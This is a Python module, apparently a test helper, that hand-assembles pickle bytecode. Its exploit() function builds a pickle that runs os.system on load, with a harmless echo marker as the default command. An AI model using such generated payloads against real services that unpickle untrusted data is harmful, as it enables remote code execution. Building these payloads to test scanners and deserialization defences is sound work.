"""Pickles, opcode by opcode."""

import struct

MARKER = "echo bastide-marker"


def line(text):
    return text.encode() + b"\n"


def text(value, protocol=4):
    """A string push."""
    raw = value.encode()
    if protocol >= 4 and len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw if protocol else b"V" + raw + b"\n"


def name(module, qualname, protocol=4):
    """A global push: STACK_GLOBAL since protocol 4."""
    if protocol >= 4:
        return text(module) + text(qualname) + b"\x93"
    return b"c" + line(module) + line(qualname)


def value(item, protocol=2):
    """A push of a plain value."""
    if item is None:
        return b"N"
    if item is True:
        return b"\x88" if protocol >= 2 else b"I01\n"
    if item is False:
        return b"\x89" if protocol >= 2 else b"I00\n"
    if isinstance(item, int):
        return b"K" + bytes([item]) if protocol and 0 <= item < 256 else b"I" + str(item).encode() + b"\n"
    if isinstance(item, float):
        return b"G" + struct.pack(">d", item) if protocol else b"F" + repr(item).encode() + b"\n"
    if isinstance(item, str):
        return text(item, protocol)
    if isinstance(item, Raw):
        return item.code
    if isinstance(item, bytes):
        return b"B" + struct.pack("<I", len(item)) + item
    if isinstance(item, tuple):
        return b"(" + b"".join(value(i, protocol) for i in item) + b"t"
    if isinstance(item, list):
        return b"(" + b"".join(value(i, protocol) for i in item) + b"l"
    if isinstance(item, dict):
        return b"(" + b"".join(value(k, protocol) + value(v, protocol) for k, v in item.items()) + b"d"
    raise TypeError(item)


class Raw:
    """Code that pushes one value."""

    def __init__(self, code):
        self.code = code


def head(protocol):
    return b"\x80" + bytes([protocol]) if protocol >= 2 else b""


def call(module, qualname, *arguments, protocol=4):
    """REDUCE of a global."""
    return name(module, qualname, protocol) + value(arguments, protocol) + b"R"


def called(code, *arguments, protocol=4):
    return code + value(arguments, protocol) + b"R"


def whole(code, protocol=4):
    return head(protocol) + code + b"."


def framed(code):
    return b"\x80\x04\x95" + struct.pack("<Q", len(code) + 1) + code + b"."


def exploit(protocol=2, module="os", qualname="system", argument=MARKER):
    """The plain exploit."""
    return whole(call(module, qualname, argument, protocol=protocol), protocol)
